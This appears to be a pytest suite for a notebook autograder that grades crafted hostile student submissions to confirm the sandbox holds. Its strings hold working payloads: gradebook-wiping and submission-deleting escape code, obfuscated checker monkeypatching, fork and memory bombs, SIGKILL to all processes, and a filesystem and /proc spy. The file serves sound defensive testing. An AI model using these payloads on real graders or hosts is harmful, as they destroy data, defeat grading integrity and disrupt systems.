"""Hostile submissions, graded together with an honest one on the tiny assignment.

Each case is a crafted ``mytensor`` (or notebook edit). One batch is graded
with two jobs; then every case's score, its flags, the honest student's full
marks and the untouched gradebook and submissions are checked.
"""

import copy
import os
import socket
import warnings
import zipfile
from pathlib import Path

import nbformat
import pytest

from tests.grading import tiny
from workbook_fixtures import orphan_cgroups
from workbook import settings
from workbook.grading import course, grade, integrity, report, submission

pytestmark = pytest.mark.slow
REPO = course.REPO
OPS = tiny.REFERENCE["ops.py"]
FULL = tiny.points()
X1, X2 = tiny.points(1), tiny.points(2) - tiny.points(1)


def _ops(double_body=None, triple_body=None, head=""):
    double = double_body or "return 2 * x"
    triple = triple_body or "return 3 * x"
    return f"{head}def double(x):\n    {double}\n\n\ndef triple(x):\n    {triple}\n"


def _blank_tests(name, nb):
    for cell in nb.cells:
        if cell.metadata.get("nbgrader", {}).get("grade"):
            cell.source = "pass  # tests removed by the student"


def _patching_cell(name, nb):
    """A cell slipped in before the tests that makes the stub package pass them."""
    patch = "import mytensor\nmytensor.double = lambda x: 2 * x\nmytensor.triple = lambda x: 3 * x\n"
    nb.cells.insert(1, nbformat.v4.new_code_cell(patch))


ESCAPE = """
import os, pathlib, shutil
here = pathlib.Path.cwd()
for start in [here, *here.parents, pathlib.Path(os.readlink(f"/proc/{os.getppid()}/cwd"))]:
    for target in start.glob("*.db"):
        try:
            target.write_text("destroyed")
        except OSError:
            pass
    for other in start.glob("submitted/*"):
        shutil.rmtree(other, ignore_errors=True)
"""

# Import-time code that patches the checker in its own process, with names built
# from pieces so that no scan sees them. The stub it rides on must still score 0.
PATCH_CHECKER = """
import sys as _s
_m = _s.modules.get("work" + "book." + "che" + "cks")
if _m is not None:
    setattr(_m, "expect" + "_same", lambda *a, **k: None)
    setattr(_m, "diff" + "erence", lambda *a, **k: None)
    setattr(_m, "run" + "_both", lambda fn, *a: (0, 0))
for _name, _mod in list(_s.modules.items()):
    if hasattr(_mod, "Check" + "Failed"):
        setattr(_mod, "Check" + "Failed", type("Quiet", (Exception,), {}))
"""

# Used inside ``double``: a hostile line that, if it worked, would leave double correct;
# when the sandbox holds, double fails, so the honest grade is the x2 points only.
RAISE_LIMITS = (
    "import resource\n    for kind in (resource.RLIMIT_AS, resource.RLIMIT_DATA):\n"
    "        try:\n            resource.setrlimit(kind, (resource.RLIM_INFINITY, resource.RLIM_INFINITY))\n"
    "        except (ValueError, OSError):\n            pass\n"
    "    block = bytearray(3 * 2**30)\n    return 2 * x"
)
FORK_BOMB = """
import os as _os, time as _t
_born = 0
for _ in range(300):
    try:
        if _os.fork() == 0:
            _t.sleep(3)
            _os._exit(0)
        _born += 1
    except OSError:
        break
LIMITED = _born < 100
"""
DETACHED = ("import subprocess, sys\n"
            "subprocess.Popen([sys.executable, '-c', 'import time; time.sleep(987.25)'], start_new_session=True)\n")
TORCH_FROM_MAIN = 'return getattr(__import__("__main__"), "to" + "rch").tensor(x).mul(2).item()'
TORCH_OBFUSCATED = 'return getattr(__import__("buil" + "tins"), "__imp" + "ort__")("to" + "rch").tensor(x).mul(2).item()'
LIAR = "class Liar(int):\n        __eq__ = lambda self, other: True\n        __repr__ = lambda self: '4'\n    return Liar(0)"
ODD_TUPLE = "class Odd(tuple):\n        def __iter__(self):\n            while True:\n                yield 1\n    return Odd((2 * x,))"
GIANT = "return 'x' * (200 * 2**20)"
# A reply of 57 MiB of empty JSON objects, written to every pipe the sandbox holds:
# the grader must refuse it before it parses it.
BRACE_FLOOD = ("import os, struct\n    body = b'[' + b'{},' * (19 * 2**20) + b'{}]'\n"
               "    frame = struct.pack('>II', len(body) + 4, len(body)) + body\n"
               "    for fd in range(3, 12):\n        try:\n            os.write(fd, frame)\n"
               "        except OSError:\n            pass\n    return 2 * x")
# A wrong result whose printed form is nearly a megabyte (45 texts of 20,000 characters).
ERROR_FLOOD = "return tuple('x' * 20000 for _ in range(45))"
PIPE_WRITE = "import os\n    for fd in range(3, 12):\n        try:\n            os.write(fd, b'\\x00\\x00\\x00\\x10garbage-garbage!')\n        except OSError:\n            pass\n    return 2 * x"


def _spy(port, secrets):
    """Import-time code that looks for the network, hidden tests and the gradebook; any success shows."""
    return f"""
import os as _os, socket as _so
FOUND = []
try:
    _so.create_connection(("127.0.0.1", {port}), timeout=2).sendall(b"leak")
    FOUND.append("network")
except OSError:
    pass
for _path in {secrets!r}:
    if _os.path.exists(_path):
        FOUND.append(_path)
for _pid in _os.listdir("/proc"):
    try:
        _cmd = open(f"/proc/{{_pid}}/cmdline", "rb").read()
    except OSError:
        continue
    if b".db" in _cmd or b"gradeworker" in _cmd or b"nbgrader" in _cmd:
        FOUND.append(_cmd.decode(errors="replace"))
_seen = 0
for _root, _dirs, _files in _os.walk("/"):
    _dirs[:] = [d for d in _dirs if d not in ("proc", "sys", "dev")]
    _seen += len(_files)
    FOUND += [_os.path.join(_root, n) for n in _files if n.endswith(".ipynb") or n.startswith("gradebook")]
    if _seen > 200000:
        break
"""


def _raise_points(name, nb):
    """Ask for more than the tasks are worth: raised points, a repeated grade id, an extra graded cell."""
    tests = [c for c in nb.cells if c.metadata.get("nbgrader", {}).get("grade")]
    for cell in tests:
        cell.metadata.nbgrader.points = 100
    repeated = copy.deepcopy(tests[0])
    repeated.id = "repeated-grade-id"
    nb.cells.append(repeated)
    extra = {"grade": True, "solution": False, "locked": True, "points": 50, "grade_id": "task-9-9", "schema_version": 3}
    nb.cells.append(nbformat.v4.new_code_cell("pass", metadata={"nbgrader": extra}))


def _hide_tests(name, nb):
    """Make the tests disappear: test cells turned into markdown in x1, deleted in x2; stale checksums."""
    for cell in nb.cells:
        grading = cell.metadata.get("nbgrader", {})
        grading.update(checksum="0" * 32, locked=False, schema_version=99)
        if grading.get("grade") and name == "x1_double":
            cell.cell_type, cell.outputs, cell.execution_count = "markdown", [], None
    nb.cells = [c for c in nb.cells if name == "x1_double" or not c.metadata.get("nbgrader", {}).get("grade")]


# A checker that passes everything, for submissions that try to put it in the grader's way.
SHADOW_CHECKS = "def expect_same(*a, **k):\n    return None\nclass CheckFailed(Exception): pass\n"

# Files that Python runs at start-up, or that shadow the checker, inside mytensor/: if any
# of them ran in the grading process, the stub beside them would pass every check.
STARTUP_PATCH = """
import builtins as _b
_real = _b.__import__
def _quiet(name, *args, **kwargs):
    module = _real(name, *args, **kwargs)
    if name.startswith("work" + "book"):
        for _m in list(__import__("sys").modules.values()):
            if hasattr(_m, "expect" + "_same"):
                setattr(_m, "expect" + "_same", lambda *a, **k: None)
    return module
_b.__import__ = _quiet
"""


# Signals to every process the student can name: its parent, pid 1, its group
# and -1 (all it may signal). Only the sandbox may die; the grader, the other
# students and later checks must not notice.
KILL_EVERYTHING = ("import os, signal\n    for pid in (os.getppid(), 1, 0, -1):\n"
                   "        try:\n            os.kill(pid, signal.SIGKILL)\n"
                   "        except OSError:\n            pass\n    return 2 * x")


def _guarded(head, condition):
    """ops.py whose double is right only while ``condition`` holds (checked at call time)."""
    return _ops(f"return 2 * x if {condition} else -1", None, head + "\n")


def hostile_cases(port, secrets):
    """student: (package files, notebook edit, expected total, expected flag words)."""
    return {
        "honest": (tiny.REFERENCE, None, FULL, []),
        "torch-direct": ({**tiny.REFERENCE, "ops.py": "import torch\n" + OPS}, None, 0, ["ZEROED", "torch"]),
        "torch-importlib": (
            {"__init__.py": "from . import helpers\n" + tiny.REFERENCE["__init__.py"], "ops.py": OPS,
             "helpers.py": "import importlib\n_t = importlib.import_module('to' + 'rch')\n"},
            None, 0, ["ZEROED", "importing mytensor imports torch"]),
        "torch-indirect": (
            {"__init__.py": "from . import backend\n" + tiny.REFERENCE["__init__.py"], "ops.py": OPS,
             "backend.py": "from torch import tensor\n"},
            None, 0, ["ZEROED"]),
        "torch-from-main": ({**tiny.REFERENCE, "ops.py": _ops(TORCH_FROM_MAIN)}, None, X2, []),
        "torch-obfuscated": ({**tiny.REFERENCE, "ops.py": _ops(TORCH_OBFUSCATED)}, None, 0, ["ZEROED"]),
        "patch-checker": ({**tiny.STUB, "__init__.py": PATCH_CHECKER + tiny.STUB["__init__.py"]}, None, 0, []),
        "edited-tests": (tiny.STUB, _blank_tests, 0, []),
        "added-cell": (tiny.STUB, _patching_cell, 0, []),
        "infinite-loop": ({**tiny.REFERENCE, "ops.py": _ops("while True: pass")}, None, X2, []),
        "os-exit": ({**tiny.REFERENCE, "ops.py": _ops("import os; os._exit(1)")}, None, X2, []),
        "segfault": ({**tiny.REFERENCE, "ops.py": _ops(None, "import ctypes; return ctypes.string_at(0)")}, None, X1, []),
        "memory-bomb": ({**tiny.REFERENCE, "ops.py": _ops("b = [bytearray(2**27) for _ in range(10**4)]")}, None, X2, []),
        "raise-limits": ({**tiny.REFERENCE, "ops.py": _ops(RAISE_LIMITS)}, None, X2, []),
        "fork-bomb": ({**tiny.REFERENCE, "ops.py": _guarded(FORK_BOMB, "LIMITED")}, None, FULL, []),
        "detached": ({**tiny.REFERENCE, "ops.py": DETACHED + OPS}, None, FULL, []),
        "spy": ({**tiny.REFERENCE, "ops.py": _guarded(_spy(port, secrets), "not FOUND")}, None, FULL, []),
        "print-flood": ({**tiny.REFERENCE, "ops.py": _ops("while True: print('spam' * 100)")}, None, X2, []),
        "lying-result": ({**tiny.REFERENCE, "ops.py": _ops(LIAR)}, None, X2, []),
        "odd-tuple": ({**tiny.REFERENCE, "ops.py": _ops(ODD_TUPLE)}, None, X2, []),
        "giant-result": ({**tiny.REFERENCE, "ops.py": _ops(GIANT)}, None, X2, []),
        "brace-flood": ({**tiny.REFERENCE, "ops.py": _ops(BRACE_FLOOD)}, None, X2, []),
        "error-flood": ({**tiny.REFERENCE, "ops.py": _ops(ERROR_FLOOD)}, None, X2, []),
        "pipe-write": ({**tiny.REFERENCE, "ops.py": _ops(PIPE_WRITE)}, None, X2, []),
        "kill-everything": ({**tiny.REFERENCE, "ops.py": _ops(KILL_EVERYTHING)}, None, X2, []),
        "shadow-workbook": ({**tiny.REFERENCE}, None, FULL, ["left out workbook/checks.py"]),
        "raised-points": (tiny.REFERENCE, _raise_points, FULL, []),
        "hidden-tests": (tiny.STUB, _hide_tests, 0, []),
        "not-notebooks": (tiny.REFERENCE, None, FULL, []),
        "startup-hooks": ({**tiny.STUB, "sitecustomize.py": STARTUP_PATCH, "usercustomize.py": STARTUP_PATCH,
                           "workbook/__init__.py": "", "workbook/checks.py": SHADOW_CHECKS}, None, 0, []),
    }


def _extra_entries(marker):
    """Entries appended to a zip after it was made (the last copy of a name is the one filed)."""
    outside = nbformat.v4.new_notebook(cells=[nbformat.v4.new_code_cell(f"open({str(marker)!r}, 'w').write('ran')")])
    return {
        "shadow-workbook": {"workbook/__init__.py": "", "workbook/checks.py": SHADOW_CHECKS},
        "not-notebooks": {"x1_double.ipynb": "{not json", "x2_triple.ipynb": "[1, 2, 3]",
                          "x3_extra.ipynb": nbformat.writes(outside)},
    }


CASES = hostile_cases(0, [])


@pytest.fixture(scope="module")
def graded(tmp_path_factory):
    """Grade every case in one batch (two jobs, short cell timeout, 1 GiB per sandbox)."""
    tmp = tmp_path_factory.mktemp("hostile")
    saved = {k: os.environ.get(k) for k in ("WORKBOOK_CELL_TIMEOUT", "WORKBOOK_SANDBOX_MEMORY_MB")}
    os.environ.update(WORKBOOK_CELL_TIMEOUT="10", WORKBOOK_SANDBOX_MEMORY_MB="1024")
    listener = socket.create_server(("127.0.0.1", 0))
    listener.setblocking(False)
    try:
        notebooks, package = tiny.write_source(tmp / "src")
        root = course.build(tmp / "course", notebooks, package, assignment=tiny.ASSIGNMENT)
        secrets = [str(root / "gradebook.db"), str(root / "source" / tiny.ASSIGNMENT / "x1_double.ipynb"),
                   str(root), str(REPO / "solutions"), str(REPO / "tests")]
        cases = hostile_cases(listener.getsockname()[1], secrets)
        zips = tmp / "zips"
        zips.mkdir()
        release = root / "release" / tiny.ASSIGNMENT
        for student, (files, edit, _, _) in cases.items():
            tiny.make_zip(zips / f"{student}__mytensor-workbook.zip", release, files, student, edit)
        for student, entries in _extra_entries(tmp / "extra-notebook-ran").items():
            _append(zips / f"{student}__mytensor-workbook.zip", entries)
        folders, problems, notes = grade.from_zips(root, zips, tiny.ASSIGNMENT)
        before = _snapshot(root / "submitted")
        results = grade.grade_all(root, folders, settings.read(), 2, tiny.ASSIGNMENT, timeout=300, notes=notes)
        table = report.collect(root, tiny.ASSIGNMENT, results)
        yield root, {row["student_id"]: row for row in table.rows}, before, _accepted(listener)
    finally:
        listener.close()
        for key, value in saved.items():
            os.environ.pop(key, None) if value is None else os.environ.__setitem__(key, value)


def _accepted(listener):
    try:
        listener.accept()[0].close()
        return True
    except BlockingIOError:
        return False


def _append(path, entries):
    with warnings.catch_warnings(), zipfile.ZipFile(path, "a") as zf:
        warnings.simplefilter("ignore")  # a repeated name is the point
        for name, data in entries.items():
            zf.writestr(name, data)


def _snapshot(folder):
    return {str(p.relative_to(folder)): p.read_bytes() for p in sorted(folder.rglob("*")) if p.is_file()}


@pytest.mark.parametrize("student", sorted(CASES))
def test_case_scores_as_expected(graded, student):
    _, rows, _, _ = graded
    expected_total, flags = CASES[student][2], CASES[student][3]
    row = rows[student]
    assert row["total"] == expected_total, (student, row)
    for word in flags:
        assert any(word in flag for flag in row["flags"]), (student, row["flags"])


def test_submitted_copies_untouched(graded):
    root, _, before, _ = graded
    assert _snapshot(root / "submitted") == before


def test_feedback_exists_for_every_student(graded):
    root, _, _, _ = graded
    for student in CASES:
        assert sorted(p.name for p in (root / "feedback" / student / tiny.ASSIGNMENT).glob("*.html")) == [
            "x1_double.html", "x2_triple.html"], student


def test_print_flood_stays_in_the_sandbox(graded):
    root, _, _, _ = graded
    nb = nbformat.read(root / "autograded" / "print-flood" / tiny.ASSIGNMENT / "x1_double.ipynb", as_version=4)
    text = nbformat.writes(nb)
    assert len(text) < 200_000 and "spam" not in text and "TimeoutError" in text


def test_a_flood_of_error_text_is_cut_before_it_reaches_a_notebook(graded):
    root, _, _, _ = graded
    for kind in ("autograded", "feedback"):
        sizes = [p.stat().st_size for p in (root / kind / "error-flood").rglob("x1_double.*")]
        assert sizes and max(sizes) < 400_000, (kind, sizes)


def test_nothing_reached_the_network(graded):
    assert graded[3] is False


def test_no_process_outlives_grading(graded):
    """The detached ``sleep`` (and the fork bomb's children) died with the sandbox; so did its control groups."""
    assert orphan_cgroups() == []
    left = []
    for entry in Path("/proc").iterdir():
        try:
            left += [entry.name] if b"987.25" in (entry / "cmdline").read_bytes() else []
        except OSError:
            continue
    assert left == []


def test_other_students_and_gradebook_intact(graded):
    root, rows, _, _ = graded
    honest = [s for s, case in CASES.items() if case[2] == FULL and not case[3]]
    assert all(rows[s]["total"] == FULL for s in honest)
    assert (root / "gradebook.db").read_bytes()[:16] == b"SQLite format 3\x00"


def test_edited_test_cells_are_restored(graded):
    root, _, _, _ = graded
    nb = nbformat.read(root / "autograded" / "edited-tests" / tiny.ASSIGNMENT / "x1_double.ipynb", as_version=4)
    tests = [c.source for c in nb.cells if c.metadata.get("nbgrader", {}).get("grade")]
    assert tests and all(tiny.HIDDEN_MARKER in source for source in tests)


def test_escape_attempt_leaves_gradebook_and_submissions(tmp_path, graded):
    """The walk-up attack reaches only the student's private copy (see the report for what remains)."""
    root, rows, _, _ = graded
    submitted_before = _snapshot(root / "submitted")
    files = {**tiny.REFERENCE, "__init__.py": ESCAPE + tiny.REFERENCE["__init__.py"]}
    zips = tmp_path / "zips"
    zips.mkdir()
    tiny.make_zip(zips / "escape__mytensor-workbook.zip", root / "release" / tiny.ASSIGNMENT, files, "escape")
    folders, _, _ = grade.from_zips(root, zips, tiny.ASSIGNMENT)
    results = grade.grade_all(root, folders, settings.read(), 1, tiny.ASSIGNMENT, timeout=300)
    after = _snapshot(root / "submitted")
    assert {k: v for k, v in after.items() if not k.startswith("escape/")} == submitted_before
    assert results["escape"].graded
    stored = _course_totals(root)
    assert stored["honest"] == FULL and stored["torch-direct"] == 0


def _course_totals(root):
    """Each student's total as the course gradebook holds it."""
    from nbgrader.api import Gradebook

    with Gradebook(course.db_url(root), course.COURSE_ID) as gb:
        return {s.student.id: s.score for s in gb.find_assignment(tiny.ASSIGNMENT).submissions}


def test_static_scan_finds_each_torch_route(tmp_path):
    package = tiny.write_package(tmp_path / "mytensor", {
        "a.py": "import torch.nn\n", "b.py": "from torch import tensor\n",
        "c.py": "import importlib\nimportlib.import_module('torch')\n", "d.py": "__import__('torch')\n",
        "e.py": "'''Like torch, but smaller.'''\nx = 'torch'.upper()\n",
        "f.py": "import sys\nt = sys.modules['torch']\n",
    })
    found = integrity.torch_uses(package)
    assert sorted({line.split(":")[0] for line in found}) == [f"mytensor/{n}.py" for n in "abcdf"]


def test_review_scan_finds_code_that_reaches_into_the_grader(tmp_path):
    package = tiny.write_package(tmp_path / "mytensor", {
        "a.py": "import workbook.checks\n", "b.py": "import sys\nsys.modules['x'] = None\n",
        "c.py": "import gc\n", "d.py": "import sys\nf = sys._getframe(1).f_globals\n",
        "e.py": "import numpy as np\n\ndef add(a, b):\n    return np.add(a, b)\n",
    })
    found = integrity.grader_reaches(package)
    assert sorted({line.split(":")[0] for line in found}) == [f"mytensor/{n}.py" for n in "abcd"]
    assert integrity.grader_reaches(REPO / "solutions" / "mytensor") == []


def test_a_submission_may_hold_only_notebooks_and_its_package():
    kept = ["x1.ipynb", "mytensor/__init__.py", "mytensor/sub/ops.py"]
    left = ["workbook/checks.py", "torch/__init__.py", "notes/x.ipynb", "mytensor/data.bin",
            "mytensor/__pycache__/ops.py", "notes.txt"]
    assert [name for name in kept + left if integrity.allowed(name)] == kept


def test_staging_grades_the_released_notebooks_and_the_package_as_collected(tmp_path, graded):
    root = graded[0]
    submitted = tmp_path / "in"
    tiny.write_package(submitted / "mytensor", tiny.REFERENCE)
    (submitted / "x1_double.ipynb").write_text("a cell that redefines the check")
    work = submission.stage(root, tmp_path / "base", "ada", submitted, tiny.ASSIGNMENT)
    staged = work / "submitted" / "ada" / tiny.ASSIGNMENT
    released = root / "release" / tiny.ASSIGNMENT
    assert sorted(p.name for p in staged.glob("*.ipynb")) == sorted(p.name for p in released.glob("*.ipynb"))
    assert (staged / "x1_double.ipynb").read_bytes() == (released / "x1_double.ipynb").read_bytes()
    assert {p.name for p in (staged / "mytensor").glob("*.py")} == set(tiny.REFERENCE)


def test_unknown_notebook_never_runs(graded):
    """A notebook the release does not hold is not run: its code would run outside the sandbox."""
    root, _, _, _ = graded
    assert not (root.parent / "extra-notebook-ran").exists()
    assert (root / "submitted" / "not-notebooks" / tiny.ASSIGNMENT / "x3_extra.ipynb").is_file()
